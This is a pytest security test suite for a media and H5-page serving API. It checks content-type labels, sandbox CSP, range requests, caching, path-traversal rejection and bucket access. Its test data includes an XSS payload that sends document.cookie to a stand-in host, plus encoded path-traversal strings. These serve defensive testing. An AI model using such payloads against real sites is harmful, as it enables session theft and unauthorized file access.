"""What readers fetch: media with the right labels, H5 pages in an origin of their own, and nothing else."""

from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any
from uuid import uuid4

import httpx
import pytest

from api.reader_files import is_public_key, page_policy
from flows.tools import FlowTools
from media.page_types import page_type
from storage.keys import ASSETS, LEDGER, PACKAGES, PUBLIC, RENDITIONS
from storage.objects import Objects
from storage.public_files import public_labels
from storage.settings import Settings

pytestmark = pytest.mark.slow

SCRIPT = b"<script>top.location = 'https://example.net/' + document.cookie</script>"
DATA = bytes(range(256)) * 40


@pytest.fixture(scope="module")
async def pages(api: Any) -> AsyncIterator[httpx.AsyncClient]:
    """The same application, called at the port of the H5 pages."""
    settings: Settings = api.app.state.resources.settings
    transport = httpx.ASGITransport(app=api.app)
    async with httpx.AsyncClient(transport=transport, base_url=settings.reader_packages_url) as client:
        yield client


def _folder(profile: str) -> str:
    return f"stories/{uuid4()}/v1/{'1a' * 8}/{profile}"


async def _put(objects: Objects, bucket: str, name: str, data: bytes, media_type: str) -> str:
    await objects.put_bytes(bucket, name, data, media_type)
    return name


class _Work:
    def __init__(self, objects: Objects) -> None:
        self.objects = objects


async def _publish(objects: Objects, name: str, data: bytes, media_type: str) -> str:
    """As a flow publishes a file of a rendition."""
    source = await _put(objects, RENDITIONS, f"made/{uuid4()}", data, "application/octet-stream")
    await FlowTools(_Work(objects), None).publish_object(source, name, media_type)  # type: ignore[arg-type]
    return name


@pytest.mark.parametrize(
    ("name", "media_type", "shown_as", "is_saved"),
    [
        ("video.mp4", "video/mp4", "video/mp4", False),
        ("master.m3u8", "application/vnd.apple.mpegurl", "application/vnd.apple.mpegurl", False),
        ("still.jpg", "image/jpeg", "image/jpeg", False),
        ("still.jpg", "text/html", "binary/octet-stream", True),
        ("page.html", "text/html; charset=utf-8", "binary/octet-stream", True),
        ("logo.svg", "image/svg+xml", "binary/octet-stream", True),
        ("paper.pdf", "application/pdf", "binary/octet-stream", True),
        ("feed.xml", "application/xml", "binary/octet-stream", True),
        ("odd", "", "binary/octet-stream", True),
    ],
)
async def test_published_file_is_shown_only_where_no_browser_runs_it(
    api: Any, objects: Objects, name: str, media_type: str, shown_as: str, is_saved: bool
) -> None:
    key = await _publish(objects, f"{_folder('app_still')}/{name}", SCRIPT, media_type or "x/unknown")
    for answer in (await api("GET", f"/media/{key}"), await api("HEAD", f"/media/{key}")):
        assert answer.status_code == 200
        assert answer.headers["content-type"] == shown_as
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert (answer.headers.get("content-disposition") == "attachment") is is_saved
        assert "sandbox" in answer.headers["content-security-policy"]
        assert answer.headers["content-length"] == str(len(SCRIPT))
        assert "set-cookie" not in answer.headers
    # The store itself, whose own answers a proxy in front may hand on, has the same labels.
    stored = (await objects.stat(PUBLIC, key)).headers
    assert stored["content-type"] == shown_as
    assert stored["cache-control"] == "public, max-age=60"
    assert (stored.get("content-disposition") == "attachment") is is_saved


async def test_file_with_a_wrong_type_in_the_store_is_still_only_saved(api: Any, objects: Objects) -> None:
    key = await _put(objects, PUBLIC, f"{_folder('app_still')}/photo.jpg", SCRIPT, "text/html")
    answer = await api("GET", f"/media/{key}?response-content-type=text/html")
    assert answer.headers["content-type"] == "binary/octet-stream"
    assert answer.headers["content-disposition"] == "attachment"


@pytest.mark.parametrize(
    ("asked", "status", "place", "body"),
    [
        ("bytes=0-99", 206, "bytes 0-99/10240", DATA[:100]),
        ("bytes=10000-", 206, "bytes 10000-10239/10240", DATA[10000:]),
        ("bytes=-5", 206, "bytes 10235-10239/10240", DATA[-5:]),
        ("bytes=10239-20000", 206, "bytes 10239-10239/10240", DATA[-1:]),
        ("bytes=-20000", 206, "bytes 0-10239/10240", DATA),
        ("bytes=10240-", 416, "bytes */10240", b""),
        ("bytes=-0", 416, "bytes */10240", b""),
        ("bytes=5-1", 200, None, DATA),
        ("bytes=0-1,3-4", 200, None, DATA),
        ("bytes=-", 200, None, DATA),
        ("lines=1-2", 200, None, DATA),
        ("bytes=" + "9" * 400 + "-", 200, None, DATA),
    ],
)
async def test_part_of_a_file_is_the_part_that_was_asked_for(
    api: Any, objects: Objects, asked: str, status: int, place: str | None, body: bytes
) -> None:
    key = await _put(objects, PUBLIC, f"{_folder('app_mp4')}/{len(DATA)}.mp4", DATA, "video/mp4")
    answer = await api("GET", f"/media/{key}", headers={"Range": asked})
    assert (answer.status_code, answer.headers.get("content-range"), answer.content) == (status, place, body)
    assert answer.headers["accept-ranges"] == "bytes"


async def test_file_that_the_reader_has_is_not_sent_again(api: Any, objects: Objects) -> None:
    key = await _put(objects, PUBLIC, f"{_folder('app_mp4')}/video.mp4", DATA, "video/mp4")
    first = await api("GET", f"/media/{key}")
    tag = first.headers["etag"]
    assert (await api("GET", f"/media/{key}", headers={"If-None-Match": tag})).status_code == 304
    since = {"If-Modified-Since": first.headers["last-modified"]}
    assert (await api("GET", f"/media/{key}", headers=since)).status_code == 304
    part = {"Range": "bytes=0-1", "If-Range": tag}
    assert (await api("GET", f"/media/{key}", headers=part)).status_code == 206
    other = {"Range": "bytes=0-1", "If-Range": '"another"'}
    assert (await api("GET", f"/media/{key}", headers=other)).content == DATA


ESCAPES = [
    "../../../assets/x",
    "..%2f..%2fledger/x",
    "%2e%2e/x",
    "a//b",
    "./x",
    "x/..",
    "a%5c..%5cb",
    "a%00b",
    "",
]


@pytest.mark.parametrize("way", ESCAPES)
async def test_name_that_leads_out_of_its_folder_is_not_there(api: Any, pages: Any, way: str) -> None:
    folder = _folder("app_package")
    for client, start in ((api.client, f"/media/{folder}"), (pages, f"/{folder}")):
        # A raw path: a client would tidy it up before it is sent.
        request = client.build_request("GET", "/")
        request.url = request.url.copy_with(raw_path=f"{start}/{way}".encode())
        assert (await client.send(request)).status_code == 404


@pytest.mark.parametrize(
    "key",
    ["probe/x", "stories/x/v1/y", f"{_folder('app_still')}", f"x/{_folder('app_still')}/a", "", "stories/"],
)
async def test_other_names_are_no_public_ones(api: Any, pages: Any, objects: Objects, key: str) -> None:
    assert not is_public_key(key)
    for bucket in (PUBLIC, PACKAGES):
        await objects.put_bytes(bucket, key or "probe/x", b"x", "image/jpeg")
        await objects.remove(bucket, key or "probe/x")
    assert (await api("GET", f"/media/{key}")).status_code == 404
    assert (await pages.get(f"/{key}")).status_code == 404


async def test_page_runs_in_an_origin_that_is_nobodys_and_loads_its_own_files_only(
    api: Any, pages: httpx.AsyncClient, objects: Objects
) -> None:
    settings: Settings = api.app.state.resources.settings
    folder = _folder("app_package")
    await _put(objects, PACKAGES, f"{folder}/site/index.html", SCRIPT, "text/plain")
    answer = await pages.get(f"/{folder}/site/index.html")
    assert (answer.status_code, answer.content) == (200, SCRIPT)
    assert answer.headers["content-type"] == "text/html"
    policy = dict(each.split(" ", 1) for each in answer.headers["content-security-policy"].split("; "))
    assert policy["sandbox"] == "allow-scripts"  # and so neither same origin, nor top navigation, nor forms
    assert policy["default-src"].split(" ")[0] == f"{settings.reader_packages_url}/{folder}/"
    assert "'self'" not in policy["default-src"]
    assert policy["frame-ancestors"] == settings.reader_url
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in answer.headers
    site, own = httpx.URL(settings.reader_url), httpx.URL(settings.reader_packages_url)
    assert (site.scheme, site.host, site.port) != (own.scheme, own.host, own.port)


@pytest.mark.parametrize("name", ["x.php", "data.bin", "page.xhtml", "noextension"])
async def test_file_of_a_page_with_an_unknown_extension_is_only_saved(
    pages: httpx.AsyncClient, objects: Objects, name: str
) -> None:
    key = await _put(objects, PACKAGES, f"{_folder('app_package')}/{name}", SCRIPT, "text/html")
    answer = await pages.get(f"/{key}")
    assert answer.headers["content-type"] == "application/octet-stream" == page_type(name)
    assert answer.headers["content-disposition"] == "attachment"


async def test_port_of_pages_serves_nothing_else_and_the_other_no_pages(
    api: Any, pages: httpx.AsyncClient, objects: Objects
) -> None:
    key = await _put(objects, PACKAGES, f"{_folder('app_package')}/index.html", SCRIPT, "text/html")
    for path in ("/healthz", "/api/v1/submissions", "/feeds/rss.xml", "/openapi.json", f"/media/{key}"):
        assert (await pages.get(path)).status_code == 404
    host = {"Host": httpx.URL(str(pages.base_url)).netloc.decode()}
    for path in (f"/{key}", f"/media/{key}"):
        assert (await api("GET", path, headers=host)).status_code == 404
    for method in ("POST", "PUT", "DELETE", "OPTIONS"):
        assert (await pages.request(method, f"/{key}")).status_code == 405


async def test_removed_file_is_gone_at_once_and_the_archive_keeps_its_own(
    api: Any, pages: httpx.AsyncClient, objects: Objects
) -> None:
    folder = _folder("app_package")
    source = await _put(objects, RENDITIONS, f"made/{uuid4()}", DATA, "application/octet-stream")
    tools = FlowTools(_Work(objects), None)  # type: ignore[arg-type]
    await tools.publish_object(source, f"{folder}/video.mp4", "video/mp4")
    await tools.publish_page(source, f"{folder}/index.html", "text/html")
    assert (await api("GET", f"/media/{folder}/video.mp4")).status_code == 200
    assert (await pages.get(f"/{folder}/index.html")).status_code == 200
    presigned = objects.presign_get(PUBLIC, f"{folder}/video.mp4", "v.mp4")
    await tools.remove_public(folder.split("/v1/")[0] + "/")
    gone = [await api("GET", f"/media/{folder}/video.mp4"), await pages.get(f"/{folder}/index.html")]
    assert [answer.status_code for answer in gone] == [404, 404]
    assert {answer.headers["cache-control"] for answer in gone} == {"no-store"}
    async with httpx.AsyncClient() as client:
        assert (await client.get(presigned)).status_code == 404
        assert (await client.get(f"{objects.endpoint}/{PUBLIC}/{folder}/video.mp4")).status_code == 404
    assert await objects.read(RENDITIONS, source) == DATA


async def test_strangers_reach_no_bucket_but_public(objects: Objects) -> None:
    key = f"{_folder('app_package')}/index.html"
    for bucket in (ASSETS, RENDITIONS, PACKAGES, LEDGER):
        await objects.put_bytes(bucket, key, b"secret", "text/plain")
    async with httpx.AsyncClient(base_url=objects.endpoint) as client:
        for bucket in (ASSETS, RENDITIONS, PACKAGES, LEDGER):
            for path in (f"/{bucket}/{key}", f"/{bucket}", f"/{bucket}/?list-type=2", f"/{bucket}?policy"):
                assert (await client.get(path)).status_code == 403, path
            assert (await client.put(f"/{bucket}/{key}", content=b"!")).status_code == 403
            assert (await client.delete(f"/{bucket}/{key}")).status_code == 403
        for path in (f"/{PUBLIC}", f"/{PUBLIC}/", f"/{PUBLIC}?list-type=2", f"/{PUBLIC}?versions", "/"):
            assert (await client.get(path)).status_code == 403, path


async def test_store_that_is_away_is_said_so(api: Any, pages: httpx.AsyncClient, gateway: Settings) -> None:
    away = Objects(gateway.model_copy(update={"s3_endpoint": "http://127.0.0.1:9"}))
    held, key = api.app.state.resources, f"{_folder('app_package')}/index.html"
    api.app.state.resources = replace(held, objects=away)
    try:
        answers = [await api("GET", f"/media/{key}"), await pages.get(f"/{key}")]
    finally:
        api.app.state.resources = held
    for answer in answers:
        assert answer.status_code == 503
        assert answer.headers["cache-control"] == "no-store"


def test_policy_of_a_strange_name_lets_nothing_of_ours_in() -> None:
    settings = Settings(packages_url="https://pages.example.net", site_url="https://news.example.org/a")
    policy = page_policy(f"{_folder('app_package')}/a;b c/'self' .html", settings)
    assert policy.count(";") == 4
    assert "frame-ancestors https://news.example.org" in policy


def test_labels_of_types_are_never_active() -> None:
    for active in (
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "text/javascript",
        "multipart/x",
    ):
        assert public_labels(active)[0] == "binary/octet-stream"
        assert public_labels(active.upper() + "; charset=x")[1]["Content-Disposition"] == "attachment"
